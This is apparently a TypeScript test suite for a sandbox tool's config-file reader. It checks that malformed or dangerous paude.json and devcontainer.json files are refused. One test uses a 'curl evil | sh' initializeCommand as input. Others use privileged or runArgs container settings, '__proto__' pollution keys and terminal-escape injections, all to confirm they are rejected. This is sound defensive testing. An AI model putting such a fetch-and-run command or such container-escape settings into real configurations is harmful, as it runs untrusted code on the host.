import { createHash } from 'node:crypto';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { z } from 'zod';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { ConfigError, ExitCode } from '../errors.js';
import { DevcontainerFileSchema, IGNORED_DEVCONTAINER_FIELDS, REFUSED_DEVCONTAINER_FIELDS, pickDevcontainerSetup } from './devcontainer-schema.js';
import { formatIssue, knownKeysAt } from './format-issue.js';
import { parseConfigText, readConfigFile } from './read-config-file.js';
import { PaudeFileSchema } from './schema.js';

const PAUDE = 'paude.json';
const escape = (text: string): string => text.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&');
const DEVCONTAINER = '.devcontainer/devcontainer.json';

let dir: string;

beforeEach(async () => {
  dir = await mkdtemp(join(tmpdir(), 'paude-read-config-'));
});

afterEach(async () => {
  await rm(dir, { recursive: true, force: true });
});

async function write(name: string, text: string | Buffer): Promise<string> {
  const path = join(dir, name);
  await writeFile(path, text);
  return path;
}

/** Reads `text` as a file and returns the ConfigError it must produce, checking the rules every such error follows. */
async function configError(text: string, schema: z.ZodType = PaudeFileSchema, display = schema === DevcontainerFileSchema ? DEVCONTAINER : PAUDE): Promise<ConfigError> {
  const path = await write('config.json', text);
  let caught: unknown;
  try {
    await readConfigFile(path, display, schema);
  } catch (error) {
    caught = error;
  }
  expect(caught, `expected ${JSON.stringify(text)} to be refused`).toBeInstanceOf(ConfigError);
  const error = caught as ConfigError;
  expect(error.exitCode).toBe(ExitCode.config);
  expect(error.exitCode).toBe(3);
  expect(error.name).toBe('ConfigError');
  expect(error.file).toBe(path);
  // One line that starts with the file's name as the user knows it.
  expect(error.message).not.toMatch(/[\n\r]/);
  expect(error.message.startsWith(display)).toBe(true);
  return error;
}

describe('readConfigFile: files that cannot be used', () => {
  it('returns undefined for a file that does not exist', async () => {
    await expect(readConfigFile(join(dir, 'missing.json'), PAUDE, PaudeFileSchema)).resolves.toBeUndefined();
    await expect(readConfigFile(join(dir, 'no', 'such', 'dir', 'paude.json'), PAUDE, PaudeFileSchema)).resolves.toBeUndefined();
  });

  it('refuses a directory in place of the file', async () => {
    const path = join(dir, 'paude.json');
    await mkdir(path);
    const error = await readConfigFile(path, PAUDE, PaudeFileSchema).then(
      () => undefined,
      (e: unknown) => e,
    );
    expect(error).toBeInstanceOf(ConfigError);
    expect((error as ConfigError).message).toBe('paude.json: cannot be read (it is a directory); make it a readable JSON file or remove it');
    expect((error as ConfigError).exitCode).toBe(3);
    expect((error as ConfigError).file).toBe(path);
  });

  it('refuses a file larger than 1 MiB without parsing it', async () => {
    const big = `{"$schema": "${'x'.repeat(1024 * 1024)}"}`;
    const error = await configError(big);
    expect(error.message).toBe(`paude.json: is ${Buffer.byteLength(big)} bytes, more than a config file can be (1 MiB); check that it is the right file`);
  });

  it('refuses an empty file and says what to write instead', async () => {
    expect((await configError('')).message).toBe('paude.json: the file is empty (expected a JSON object such as {}); write {} or delete the file');
    expect((await configError('  \n\t\n')).message).toBe('paude.json: the file is empty (expected a JSON object such as {}); write {} or delete the file');
  });
});

describe('readConfigFile: malformed paude.json', () => {
  it('reports invalid JSON syntax with file:line:column', async () => {
    const error = await configError('{\n  "network": {\n    "mode": "ask"\n  },\n  "provider": \n}');
    expect(error.message).toBe('paude.json:6:1: invalid JSON: a value is expected (fix the syntax; comments and trailing commas are allowed)');
  });

  it.each([
    ['{"network": {', '1:14', 'a closing } is expected'],
    ['{"a": 1} {}', '1:10', 'unexpected text after the end of the JSON value'],
    ['/* never closed', '1:1', 'a comment is not closed'],
    ['{"provider": "\\q"}', '1:14', 'an invalid escape character'],
    ['{\r\n  "network": {}\r\n  x\r\n}', '3:3', 'an unexpected character'],
    ['{"network" {}}', '1:12', 'a colon is expected'],
  ])('reports the syntax error in %j at %s: %s', async (text, at, what) => {
    const error = await configError(text);
    expect(error.message).toBe(`paude.json:${at}: invalid JSON: ${what} (fix the syntax; comments and trailing commas are allowed)`);
  });

  it.each([
    ['[]', 'paude.json: (top level): is a list (expected an object {...})'],
    ['[{"network": {}}]', 'paude.json: (top level): is a list (expected an object {...})'],
    ['"network"', 'paude.json: (top level): "network" is a string (expected an object {...})'],
    ['42', 'paude.json: (top level): 42 is a number (expected an object {...})'],
  ])('refuses the top-level value %j: a config file is an object', async (text, message) => {
    expect((await configError(text)).message).toBe(message);
  });

  it('refuses an unknown key and suggests the nearest known one ("netwrok" -> "network")', async () => {
    const error = await configError('{"netwrok": {"mode": "ask"}}');
    expect(error.message).toBe('paude.json: (top level): unknown key "netwrok" (did you mean "network"?)');
  });

  it('refuses an unknown nested key and suggests the key at that level ("alowlist" -> "allowlist")', async () => {
    const error = await configError('{"network": {"alowlist": ["github.com"]}}');
    expect(error.message).toBe('paude.json: network: unknown key "alowlist" (did you mean "allowlist"?)');
    expect(error.jsonPath).toBe('network');
  });

  it('lists the known keys when nothing is close, and counts further unknown keys', async () => {
    const error = await configError('{"zzzzzz": 1, "yyyyyy": 2}');
    expect(error.message).toBe(
      'paude.json: (top level): unknown key "zzzzzz" (and 1 more) (known keys: $schema, network, provider, credentials, claude, backend, image, resources, certificates, telemetry, audit, plugins, isolate, protect, sessions, ui)',
    );
  });

  it('refuses a value of the wrong type (a string where true or false is expected)', async () => {
    const error = await configError('{"claude": {"copyHostConfig": "yes"}}');
    expect(error.message).toBe('paude.json: claude.copyHostConfig: "yes" is a string (expected true or false)');
    expect(error.jsonPath).toBe('claude.copyHostConfig');
  });

  it('refuses a string where a list is expected, and null where an object is expected', async () => {
    expect((await configError('{"network": {"allowlist": "github.com"}}')).message).toBe(
      'paude.json: network.allowlist: "github.com" is a string (expected a list [...])',
    );
    expect((await configError('{"network": null}')).message).toBe('paude.json: network: null is null (expected an object {...})');
    expect((await configError('{"resources": {"pids": "100"}}')).message).toBe('paude.json: resources.pids: "100" is a string (expected a number)');
  });

  it('refuses a value outside an enum and lists the allowed ones', async () => {
    const error = await configError('{"network": {"mode": "closed"}}');
    expect(error.message).toBe('paude.json: network.mode: "closed" is not allowed (expected "restricted", "ask" or "open")');
    expect(error.jsonPath).toBe('network.mode');
  });

  it('refuses a bad allowlist entry, naming its index and the grammar', async () => {
    const error = await configError('{"network": {"allowlist": ["github.com", "packages.example.test", "http://x.com/a"]}}');
    expect(error.message).toBe(
      'paude.json: network.allowlist[2]: "http://x.com/a" is not a domain: schemes are not allowed (expected host, *.host, .host, host:port, ip:ADDRESS or @group)',
    );
    expect(error.jsonPath).toBe('network.allowlist[2]');
  });

  it('refuses a bad denylist entry the same way', async () => {
    const error = await configError('{"network": {"denylist": ["*.com"]}}');
    expect(error.message).toMatch(/^paude\.json: network\.denylist\[0\]: "\*\.com" covers a whole public suffix \("com"\)/);
    expect(error.message).toMatch(/\(expected host, \*\.host, \.host, host:port, ip:ADDRESS or @group\)$/);
  });

  it('keeps a control character in an allowlist entry escaped, so the message stays on one line', async () => {
    const error = await configError('{"network": {"allowlist": ["github.com\\nevil.com"]}}');
    expect(error.message).toBe(
      'paude.json: network.allowlist[0]: "github.com\\nevil.com" contains whitespace or control characters (expected host, *.host, .host, host:port, ip:ADDRESS or @group)',
    );
  });

  it('refuses a key that appears twice in one object, with its line and column', async () => {
    const error = await configError('{\n  "network": {\n    "mode": "restricted",\n    "mode": "open"\n  }\n}');
    expect(error.message).toBe('paude.json:4:5: network.mode: key "mode" appears twice in the same object (keep one; JSON readers disagree on which wins)');
  });

  it('allows the same key in different objects', async () => {
    const path = await write('ok.json', '{"network": {"mode": "ask"}, "telemetry": {"otel": {"attributes": {"mode": "x"}}}}');
    const loaded = await readConfigFile(path, PAUDE, PaudeFileSchema);
    expect(loaded?.value).toEqual({ network: { mode: 'ask' }, telemetry: { otel: { attributes: { mode: 'x' } } } });
  });

  it.each([
    ['{"resources": {"pids": 5}}', 'paude.json: resources.pids: 5 is too small (expected at least 16)'],
    ['{"resources": {"pids": 2000000}}', 'paude.json: resources.pids: 2000000 is too large (expected at most 1000000)'],
    ['{"resources": {"cpus": 0}}', 'paude.json: resources.cpus: 0 is too small (expected more than 0)'],
    ['{"network": {"approvalTimeoutSeconds": 3601}}', 'paude.json: network.approvalTimeoutSeconds: 3601 is too large (expected at most 3600)'],
    ['{"sessions": {"idleTimeoutMinutes": -1}}', 'paude.json: sessions.idleTimeoutMinutes: -1 is too small (expected at least 0)'],
  ])('refuses the out-of-range number in %j', async (text, message) => {
    expect((await configError(text)).message).toBe(message);
  });

  it.each(['lots', '0g', '4gb', '-1m', '1.5g', ''])('refuses the memory size %j', async (memory) => {
    const error = await configError(JSON.stringify({ resources: { memory } }));
    expect(error.message).toBe(
      memory === ''
        ? 'paude.json: resources.memory: "" is not valid (expected a size such as "512m" or "4g")'
        : `paude.json: resources.memory: ${JSON.stringify(memory)} is not valid (expected a size such as "512m" or "4g")`,
    );
    expect(error.jsonPath).toBe('resources.memory');
  });

  it.each(['512m', '4g', '4G', '2048k', '1073741824', '1b'])('accepts the memory size %j', async (memory) => {
    const path = await write('ok.json', JSON.stringify({ resources: { memory } }));
    expect((await readConfigFile(path, PAUDE, PaudeFileSchema))?.value).toEqual({ resources: { memory } });
  });

  it.each(['not a url', 'ftp://collector.example.com', 'collector.example.com:4318', 'file:///etc/passwd'])('refuses the telemetry endpoint %j', async (endpoint) => {
    const error = await configError(JSON.stringify({ telemetry: { otel: { endpoint } } }));
    expect(error.message).toBe(`paude.json: telemetry.otel.endpoint: ${JSON.stringify(endpoint)} is not valid (expected an http:// or https:// URL)`);
    expect(error.jsonPath).toBe('telemetry.otel.endpoint');
  });

  it('refuses an audit sink of an unknown type and lists the known types', async () => {
    const error = await configError('{"audit": {"sinks": [{"type": "file"}, {"type": "kafka"}]}}');
    expect(error.message).toBe('paude.json: audit.sinks[1].type: "kafka" is not a known type (expected "file", "syslog", "webhook")');
  });

  it('refuses a webhook audit sink without a URL', async () => {
    const error = await configError('{"audit": {"sinks": [{"type": "webhook"}]}}');
    expect(error.message).toBe('paude.json: audit.sinks[0].url: is missing (expected a string in double quotes)');
  });

  it('refuses an isolate path that leaves the workspace', async () => {
    for (const bad of ['../secrets', '/etc', 'a/../../b']) {
      const error = await configError(JSON.stringify({ isolate: ['.venv', bad] }));
      expect(error.message).toBe(`paude.json: isolate[1]: ${JSON.stringify(bad)} is not valid (expected a path relative to the workspace without ".." (e.g. ".venv"))`);
    }
  });

  it('counts the further problems and points to paude config validate', async () => {
    const error = await configError('{"network": {"mode": "closed"}, "resources": {"pids": 1}, "provider": "nope"}');
    expect(error.message).toBe('paude.json: network.mode: "closed" is not allowed (expected "restricted", "ask" or "open") [2 more problems: run paude config validate]');
    const one = await configError('{"network": {"mode": "closed"}, "resources": {"pids": 1}}');
    expect(one.message).toMatch(/ \[1 more problem: run paude config validate\]$/);
  });

  it('shortens a long offending value so the line stays readable', async () => {
    const long = 'x'.repeat(200);
    const error = await configError(JSON.stringify({ provider: long }));
    expect(error.message).toBe(`paude.json: provider: "${'x'.repeat(76)}..." is not allowed (expected "anthropic", "vertex", "bedrock" or "azure")`);
  });

  it('reports a "__proto__" key as unknown and does not pollute Object.prototype', async () => {
    const error = await configError('{"__proto__": {"polluted": true, "network": {"mode": "open"}}}');
    expect(error.message).toMatch(/^paude\.json: \(top level\): unknown key "__proto__" \(known keys: /);
    const nested = await configError('{"network": {"__proto__": {"mode": "open"}}}');
    expect(nested.message).toBe('paude.json: network: unknown key "__proto__" (known keys: mode, allowlist, denylist, projectMayExtend, hosts, approvalTimeoutSeconds)');
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(({} as Record<string, unknown>).mode).toBeUndefined();
    expect(({} as Record<string, unknown>).network).toBeUndefined();
  });

  it('does not let "__proto__" inside a free-form map change any object', async () => {
    const path = await write('ok.json', '{"ui": {"keys": {"__proto__": ["q"], "quit": "q"}}, "telemetry": {"otel": {"attributes": {"__proto__": "x"}}}}');
    const loaded = await readConfigFile(path, PAUDE, PaudeFileSchema);
    const value = loaded?.value;
    expect(value?.ui?.keys).toEqual({ quit: 'q' });
    expect(Object.getPrototypeOf(value?.ui?.keys)).toBe(Object.prototype);
    expect(({} as Record<string, unknown>).quit).toBeUndefined();
    expect(Object.prototype).not.toHaveProperty('0');
  });
});

describe('readConfigFile: what a good file gives back', () => {
  it('accepts comments and trailing commas', async () => {
    const text = `// paude settings
{
  /* network */
  "network": {
    "mode": "ask", // ask me
    "allowlist": ["github.com", "@npm",],
  },
  "resources": { "memory": "4g", },
}
`;
    const path = await write('paude.json', text);
    const loaded = await readConfigFile(path, PAUDE, PaudeFileSchema);
    expect(loaded?.value).toEqual({ network: { mode: 'ask', allowlist: ['github.com', '@npm'] }, resources: { memory: '4g' } });
  });

  it('returns the exact text, the display name and the SHA-256 of the bytes on disk', async () => {
    const text = '{ "provider": "vertex" }\n';
    const path = await write('paude.json', text);
    const loaded = await readConfigFile(path, PAUDE, PaudeFileSchema);
    expect(loaded).toEqual({
      path,
      display: PAUDE,
      text,
      sha256: createHash('sha256').update(text).digest('hex'),
      value: { provider: 'vertex' },
    });
  });

  it('gives files that mean the same but differ in bytes different hashes', async () => {
    const a = await readConfigFile(await write('a.json', '{"provider":"vertex"}'), PAUDE, PaudeFileSchema);
    const b = await readConfigFile(await write('b.json', '{"provider": "vertex"}'), PAUDE, PaudeFileSchema);
    expect(a?.value).toEqual(b?.value);
    expect(a?.sha256).not.toBe(b?.sha256);
  });

  it('accepts a full, valid global file', async () => {
    const file = {
      $schema: 'https://example.com/paude.schema.json',
      network: { mode: 'restricted', allowlist: ['github.com', '*.example.com:8443', 'ip:10.1.2.3'], denylist: ['evil.example.com'], projectMayExtend: false, approvalTimeoutSeconds: 60 },
      provider: 'bedrock',
      credentials: { bedrock: { region: 'eu-west-1', profile: 'dev' }, gitconfig: false },
      claude: { copyHostConfig: false, persistProjectConfig: true, args: ['--verbose'] },
      backend: { type: 'podman', podman: { socket: '/run/podman.sock' } },
      resources: { cpus: 2.5, memory: '4g', pids: 1024 },
      telemetry: { otel: { enabled: true, endpoint: 'https://otel.example.com:4318', protocol: 'http/protobuf', attributes: { team: 'a' } } },
      audit: { sinks: [{ type: 'file', maxBytes: 4096 }, { type: 'syslog' }, { type: 'webhook', url: 'https://hooks.example.com/a' }] },
      plugins: { allow: ['a'], deny: ['b'] },
      isolate: ['.venv'],
      protect: ['.git/hooks'],
      sessions: { idleTimeoutMinutes: 30, detachKeys: 'ctrl-q' },
      ui: { theme: 'dark', keys: { quit: ['q', 'ctrl-c'] } },
    };
    const path = await write('paude.json', JSON.stringify(file, null, 2));
    expect((await readConfigFile(path, PAUDE, PaudeFileSchema))?.value).toEqual(file);
  });
});

describe('readConfigFile: devcontainer.json', () => {
  it.each(['runArgs', 'privileged', 'mounts', 'initializeCommand', 'capAdd', 'forwardPorts', 'dockerComposeFile'])('refuses %s and says why', async (field) => {
    const value = field === 'privileged' ? true : field === 'initializeCommand' ? 'curl evil | sh' : ['x'];
    const error = await configError(JSON.stringify({ image: 'node:22', [field]: value }), DevcontainerFileSchema);
    const reason = REFUSED_DEVCONTAINER_FIELDS[field] ?? '';
    expect(reason).not.toBe('');
    expect(error.message).toMatch(new RegExp(`^${escape(`${DEVCONTAINER}: ${field}: `)}(is )?${escape(`refused because ${reason}; remove it (paude sets up the container itself)`)}$`));
    expect(error.jsonPath).toBe(field);
  });

  it('explains the specific risk of the common refused fields', async () => {
    expect((await configError('{"runArgs": ["--privileged"]}', DevcontainerFileSchema)).message).toContain('extra engine flags can add mounts, devices, privileges or networks');
    expect((await configError('{"privileged": true}', DevcontainerFileSchema)).message).toContain('a privileged container can escape the sandbox');
    expect((await configError('{"mounts": []}', DevcontainerFileSchema)).message).toContain('host mounts would give the agent files outside the workspace');
    expect((await configError('{"initializeCommand": "x"}', DevcontainerFileSchema)).message).toContain('it runs on the host, outside the sandbox');
  });

  it('refuses even a harmless-looking value of a refused field', async () => {
    const error = await configError('{"privileged": false}', DevcontainerFileSchema);
    expect(error.message).toMatch(/^\.devcontainer\/devcontainer\.json: privileged: (is )?refused because a privileged container/);
  });

  it.each(['root', '0', '0:0', 'root:root'])('refuses the root user %j as remoteUser and containerUser', async (user) => {
    for (const key of ['remoteUser', 'containerUser']) {
      const error = await configError(JSON.stringify({ image: 'node:22', [key]: user }), DevcontainerFileSchema);
      expect(error.message).toBe(`${DEVCONTAINER}: ${key}: ${JSON.stringify(user)} is not valid (expected a non-root user (paude never runs the agent as root))`);
    }
  });

  it('refuses image and build together', async () => {
    const error = await configError('{"image": "node:22", "build": {"dockerfile": "Dockerfile"}}', DevcontainerFileSchema);
    expect(error.message).toBe(`${DEVCONTAINER}: (top level): sets both "image" and "build"; keep one of them`);
  });

  it('suggests the nearest field for a typo', async () => {
    const error = await configError('{"imgae": "node:22"}', DevcontainerFileSchema);
    expect(error.message).toBe(`${DEVCONTAINER}: (top level): unknown key "imgae" (did you mean "image"?)`);
  });

  it('accepts editor-only fields and keeps only what paude honours', async () => {
    const file = {
      name: 'dev',
      image: 'node:22',
      customizations: { vscode: { extensions: ['a.b'] } },
      features: { 'features.test/devcontainers/features/go:1': {} },
      remoteUser: 'node',
      containerEnv: { FOO: 'bar' },
      postCreateCommand: ['npm', 'ci'],
      postStartCommand: { a: 'echo a', b: ['echo', 'b'] },
    };
    const path = await write('devcontainer.json', JSON.stringify(file));
    const loaded = await readConfigFile(path, DEVCONTAINER, DevcontainerFileSchema);
    expect(loaded?.value).toEqual(file);
    expect(pickDevcontainerSetup(loaded!.value)).toEqual({
      image: 'node:22',
      remoteUser: 'node',
      containerEnv: { FOO: 'bar' },
      postCreateCommand: ['npm', 'ci'],
      postStartCommand: { a: 'echo a', b: ['echo', 'b'] },
    });
  });

  it('accepts every ignored field without complaint', async () => {
    const file = Object.fromEntries(IGNORED_DEVCONTAINER_FIELDS.map((k) => [k, { anything: [1, 'two'] }]));
    const path = await write('devcontainer.json', JSON.stringify(file));
    const loaded = await readConfigFile(path, DEVCONTAINER, DevcontainerFileSchema);
    expect(pickDevcontainerSetup(loaded!.value)).toEqual({});
  });

  it('accepts a build section with a non-root user', async () => {
    const file = { build: { dockerfile: 'Dockerfile', context: '..', args: { V: '1' } }, containerUser: 'vscode' };
    const path = await write('devcontainer.json', JSON.stringify(file));
    expect((await readConfigFile(path, DEVCONTAINER, DevcontainerFileSchema))?.value).toEqual(file);
  });
});

describe('parseConfigText and formatIssue', () => {
  it('parseConfigText applies the same rules to text that never touched the disk', () => {
    let caught: unknown;
    try {
      parseConfigText('{"network": {"mode": "closed"}}', '/abs/paude.json', PAUDE, PaudeFileSchema);
    } catch (error) {
      caught = error;
    }
    expect(caught).toBeInstanceOf(ConfigError);
    expect(caught).toMatchObject({
      message: 'paude.json: network.mode: "closed" is not allowed (expected "restricted", "ask" or "open")',
      file: '/abs/paude.json',
      jsonPath: 'network.mode',
      exitCode: 3,
    });
    expect(parseConfigText('{}', '/abs/paude.json', PAUDE, PaudeFileSchema)).toEqual({});
  });

  it('knownKeysAt finds the keys accepted at a path, through optional wrappers and lists', () => {
    expect(knownKeysAt(PaudeFileSchema, ['network'])).toEqual(['mode', 'allowlist', 'denylist', 'projectMayExtend', 'hosts', 'approvalTimeoutSeconds']);
    expect(knownKeysAt(PaudeFileSchema, ['audit', 'sinks', 0]).sort()).toEqual(['address', 'facility', 'headers', 'maxBytes', 'maxFiles', 'path', 'type', 'url'].sort());
    expect(knownKeysAt(PaudeFileSchema, ['nope'])).toEqual([]);
  });

  it('formatIssue describes a missing value', () => {
    const result = PaudeFileSchema.safeParse({ audit: { sinks: [{ type: 'webhook' }] } }, { reportInput: true });
    expect(result.success).toBe(false);
    const issue = result.error!.issues[0]!;
    expect(formatIssue('g.json', issue, PaudeFileSchema)).toBe('g.json: audit.sinks[0].url: is missing (expected a string in double quotes)');
  });
});

/**
 * Problems found by review and fixed; these keep them fixed.
 *
 */
describe('readConfigFile: regressions', () => {
  async function errorFor(text: string): Promise<ConfigError> {
    const path = await write('paude.json', text);
    const error: unknown = await readConfigFile(path, PAUDE, PaudeFileSchema).catch((e: unknown) => e);
    if (!(error instanceof ConfigError)) throw new Error(`expected a ConfigError for ${text}`);
    return error;
  }

  // The unknown-key message interpolates the raw key, so a key containing a newline (or an ANSI
  // escape) written as "\n" in the JSON puts a real newline (or escape) into the one-line message.
  it('(premise) a key containing a newline is refused as unknown', async () => {
    expect((await errorFor('{"net\\nwork": {}}')).message).toMatch(/^paude\.json: \(top level\): unknown key "net/);
  });
  it('keeps the message on one line for an unknown key that contains a newline', async () => {
    expect((await errorFor('{"net\\nwork": {}}')).message).not.toContain('\n');
  });
  it('keeps terminal escape sequences out of the message for an unknown key', async () => {
    expect((await errorFor('{"\\u001b[2Jnetwork": {}}')).message).not.toContain('\u001b');
  });
  // JSON.stringify, which quoted the values and keys in messages, leaves NEL (U+0085, a line
  // break to Unicode) and CSI (U+009B, ESC [ to a terminal) as they are (found by test/fuzz).
  it('keeps NEL and CSI in a value or a duplicate key out of the message', async () => {
    expect((await errorFor('{"network": "a\u0085b"}')).message).toBe('paude.json: network: "a\\u0085b" is a string (expected an object {...})');
    expect((await errorFor('{"ui": {"keys": {"\u009b2J": "x", "\u009b2J": "y"}}}')).message).toMatch(/^paude\.json:1:\d+: ui\.keys\["\\u009b2J"\]: key "\\u009b2J" appears twice/);
  });

  // A non-integer where an integer is needed reads "100.5 is a number (expected a number)".
  it('(premise) a fractional pids value is refused', async () => {
    expect((await errorFor('{"resources": {"pids": 100.5}}')).message).toMatch(/^paude\.json: resources\.pids: 100\.5 /);
  });
  it('says a whole number is expected for a fractional pids value', async () => {
    expect((await errorFor('{"resources": {"pids": 100.5}}')).message).not.toContain('is a number (expected a number)');
  });

  // The JSON parser recurses once per nesting level: ten thousand "[" (10 kB, far under the
  // 1 MiB limit) overflowed the stack, and the RangeError reached the user as an unexpected
  // error instead of a config error naming the file (found by test/fuzz/config-files.test.ts).
  it('refuses text nested ten thousand levels deep with a config error naming where', async () => {
    expect((await configError('['.repeat(10_000))).message).toBe(
      'paude.json:1:101: nested more than 100 levels deep, which no config file needs; check that it is the right file',
    );
    expect((await configError(`{"network": ${'{"a": '.repeat(10_000)}`)).message).toMatch(/^paude\.json:1:\d+: nested more than 100 levels deep/);
    expect((await configError(`${'['.repeat(10_000)}${']'.repeat(10_000)}`, DevcontainerFileSchema)).message).toMatch(
      /^\.devcontainer\/devcontainer\.json:1:101: nested more than 100 levels deep/,
    );
  });
  it('still reads free-form devcontainer.json settings nested 100 levels deep, and counts only brackets outside strings and comments', async () => {
    const deep = `{"customizations": ${'['.repeat(99)}${']'.repeat(99)}, "name": "${'['.repeat(500)}" /* ${'{'.repeat(500)} */}`;
    const path = await write('devcontainer.json', deep);
    await expect(readConfigFile(path, DEVCONTAINER, DevcontainerFileSchema)).resolves.toMatchObject({ value: { name: '['.repeat(500) } });
  });
});
